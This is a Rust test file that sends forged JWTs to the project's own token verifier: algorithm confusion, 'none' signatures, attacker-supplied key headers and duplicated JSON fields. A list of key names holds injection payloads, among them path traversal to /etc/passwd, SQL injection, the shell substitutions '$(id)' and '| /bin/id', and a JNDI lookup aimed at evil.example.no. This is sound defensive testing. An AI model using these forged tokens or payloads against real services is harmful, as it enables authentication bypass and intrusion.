//! Headers that try to choose the algorithm, the key, or where keys come from.

use super::Attack;
use crate::tests::{
    house,
    provider::{jwk, key, modulus, signed, signed_text},
};
use aws_lc_rs::{hmac, signature::KeyPair as _};
use base64::{
    Engine,
    engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD},
};
use serde_json::{Value, json};

fn unsigned(header: &Value, claims: &Value) -> String {
    format!("{}.{}", URL_SAFE_NO_PAD.encode(header.to_string()), URL_SAFE_NO_PAD.encode(claims.to_string()))
}

/// Signed with a secret instead of a key.
fn hashed(algorithm: hmac::Algorithm, secret: &[u8], message: &str) -> String {
    let tag = hmac::sign(&hmac::Key::new(algorithm, secret), message.as_bytes());
    format!("{message}.{}", URL_SAFE_NO_PAD.encode(tag))
}

/// Everything public about the key that could be taken for a secret.
fn secrets() -> Vec<Vec<u8>> {
    let (public, (_, jwk)) = (key(0).public_key().as_ref().to_vec(), jwk("first", key(0)));
    let pem = format!("-----BEGIN RSA PUBLIC KEY-----\n{}\n-----END RSA PUBLIC KEY-----\n", STANDARD.encode(&public));
    let n = jwk["n"].as_str().unwrap().as_bytes().to_vec();
    vec![
        public,
        pem.into_bytes(),
        modulus(key(0)),
        n,
        jwk.to_string().into_bytes(),
        vec![],
        b"first".to_vec(),
        b"AQAB".to_vec(),
    ]
}

#[tokio::test]
async fn attack_algorithm_confusion() {
    let house = house().await;
    let claims = house.provider.claims();
    let mut attack = Attack::on("algorithm confusion");
    for (name, algorithm) in [
        ("HS256", hmac::HMAC_SHA256),
        ("HS384", hmac::HMAC_SHA384),
        ("HS512", hmac::HMAC_SHA512),
        ("RS256", hmac::HMAC_SHA256),
    ] {
        for (number, secret) in secrets().iter().enumerate() {
            let token = hashed(algorithm, secret, &unsigned(&json!({"alg": name, "kid": "first"}), &claims));
            attack.bearer(&house, format!("{name} with secret {number}"), &token).await;
        }
    }
    let names = [
        "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512", "EdDSA", "HS256", "rs256", "Rs256",
        "RS256 ", " RS256", "RS256\0", "RSA", "SHA256", "RS1", "dir", "A256KW", "RSA-OAEP",
    ];
    for name in names {
        attack.bearer(&house, name, &signed(&json!({"alg": name, "kid": "first"}), &claims, key(0))).await;
    }
    for value in [json!(["RS256"]), json!({}), json!(256), json!(null), json!(true)] {
        attack
            .bearer(&house, value.to_string(), &signed(&json!({"alg": value, "kid": "first"}), &claims, key(0)))
            .await;
    }
    attack.bearer(&house, "no algorithm", &signed(&json!({"kid": "first"}), &claims, key(0))).await;
    attack.end();
}

#[tokio::test]
async fn attack_no_signature() {
    let house = house().await;
    let mut attack = Attack::on("no signature");
    let good = house.provider.token();
    let old = good.rsplit_once('.').unwrap().1;
    for name in
        ["none", "None", "NONE", "nOnE", "nonE", "none ", " none", "none\0", "n\u{43e}ne", "\u{feff}none", "null", ""]
    {
        let message = unsigned(&json!({"alg": name, "kid": "first"}), &house.provider.claims());
        for token in [message.clone(), format!("{message}."), format!("{message}.{old}"), format!("{message}.AA")] {
            attack.bearer(&house, format!("{name:?}: {}", &token[message.len()..]), &token).await;
        }
    }
    let message = good.rsplit_once('.').unwrap().0;
    for end in ["", ".", "..", ".AA", ".e30", ".null"] {
        attack.bearer(&house, format!("RS256 and {end:?}"), &format!("{message}{end}")).await;
    }
    attack.end();
}

#[tokio::test]
async fn attack_own_key() {
    let house = house().await;
    let evil = crate::tests::provider::Provider::start().await;
    let place = format!("{}/{}/discovery/v2.0/keys", evil.address, crate::tests::TENANT);
    let mut attack = Attack::on("key brought along");
    let (_, own) = jwk("first", key(1));
    let table = [
        ("jwk", own.clone()),
        ("jwk", json!({"kty": "oct", "k": "AAAA"})),
        ("jwk", json!({})),
        ("jku", json!(place)),
        ("jku", json!(format!("{}/keys", house.provider.address))),
        ("jku", json!("file:///dev/null")),
        ("x5u", json!(place)),
        ("x5u", json!(["x"])),
        ("x5c", json!(["AAAA"])),
        ("x5c", json!([])),
        ("crit", json!(["exp"])),
        ("crit", json!(["b64"])),
        ("crit", json!([])),
        ("crit", json!("exp")),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
        ("jwk", json!(false)),
        ("x5c", json!("")),
    ];
    for (name, value) in table {
        for which in [0, 1] {
            let header = json!({"alg": "RS256", "kid": "first", name: value});
            attack
                .bearer(
                    &house,
                    format!("{header} by key {which}"),
                    &signed(&header, &house.provider.claims(), key(which)),
                )
                .await;
        }
    }
    let header = json!({"alg": "RS256", "kid": "first", "b64": false, "crit": ["b64"]});
    attack.bearer(&house, "unencoded", &signed(&header, &house.provider.claims(), key(0))).await;
    attack.end();
    assert_eq!((evil.desk().readings, house.provider.desk().readings), (0, 0), "no address of a token is asked");
}

#[tokio::test]
async fn attack_key_name() {
    let house = house().await;
    let mut attack = Attack::on("name of the key");
    let (long, longer) = ("k".repeat(300), "k".repeat(9000));
    let names = [
        "",
        " ",
        "second",
        "FIRST",
        " first",
        "first ",
        "first\0",
        "first\n",
        "first,second",
        "*",
        "%66irst",
        "..",
        "../../../../dev/null",
        "/dev/null",
        "C:\\Windows\\win.ini",
        "file:///etc/passwd",
        "https://evil.example.no/keys",
        "first' OR '1'='1",
        "' UNION SELECT 'AAAA",
        "first; DROP TABLE keys",
        "| /bin/id",
        "$(id)",
        "${jndi:ldap://evil.example.no}",
        "first\u{202e}",
        "f\u{456}rst",
        "__proto__",
        &long,
        &longer,
    ];
    for name in
        names.map(|name| json!(name)).into_iter().chain([json!(1), json!(null), json!(["first"]), json!({"first": 1})])
    {
        let header = json!({"alg": "RS256", "kid": name});
        for which in [0, 1] {
            attack.bearer(&house, format!("{name:.40}"), &signed(&header, &house.provider.claims(), key(which))).await;
        }
        let empty = hashed(hmac::HMAC_SHA256, b"", &unsigned(&header, &house.provider.claims()));
        attack.bearer(&house, format!("{name:.40} with an empty secret"), &empty).await;
    }
    attack.bearer(&house, "no name", &signed(&json!({"alg": "RS256"}), &house.provider.claims(), key(0))).await;
    attack.end();
    assert!(house.provider.desk().readings <= 1, "unknown names are looked for once");
}

#[tokio::test]
async fn attack_shared_key_name() {
    let mut attack = Attack::on("two keys of one name");
    for order in [[0, 1], [1, 0]] {
        let house = house().await;
        house.provider.desk().published = order.iter().map(|which| jwk("first", key(*which))).collect();
        house.provider.desk().published.push(jwk("spare", key(2)));
        for which in [0, 1] {
            let token = signed(&json!({"alg": "RS256", "kid": "first"}), &house.provider.claims(), key(which));
            attack.bearer(&house, format!("{order:?} by key {which}"), &token).await;
        }
    }
    attack.end();
}

#[tokio::test]
async fn attack_said_twice() {
    let house = house().await;
    let mut attack = Attack::on("said twice");
    let (header, claims) = (r#"{"alg":"RS256","kid":"first"}"#, house.provider.claims().to_string());
    for text in [
        r#"{"alg":"none","alg":"RS256","kid":"first"}"#,
        r#"{"alg":"RS256","alg":"RS256","kid":"first"}"#,
        r#"{"alg":"RS256","kid":"second","kid":"first"}"#,
        r#"{"\u0061lg":"none","alg":"RS256","kid":"first"}"#,
        r#"{"typ":"JWT","alg":"RS256","kid":"first","typ":"at+jwt"}"#,
        r#"{"x":1,"x":1,"alg":"RS256","kid":"first"}"#,
    ] {
        attack.bearer(&house, text, &signed_text(text, &claims, key(0))).await;
    }
    let names = [
        "iss",
        "tid",
        "aud",
        "exp",
        "nbf",
        "iat",
        "ver",
        "azp",
        "scp",
        "oid",
        "name",
        "preferred_username",
        "roles",
        "sub",
    ];
    for name in names {
        let value = &house.provider.claims()[name];
        for pair in [
            format!("\"{name}\":{value},"),
            format!("\"{name}\":null,"),
            format!("\"\\u{:04x}{}\":{value},", name.as_bytes()[0], &name[1..]),
        ] {
            let doubled = claims.replacen('{', &format!("{{{pair}"), 1);
            attack.bearer(&house, pair, &signed_text(header, &doubled, key(0))).await;
        }
    }
    attack.end();
    use domain::port::Identity;
    assert!(house.entra.caller(&signed_text(header, &claims, key(0))).await.is_ok(), "said once it is believed");
}
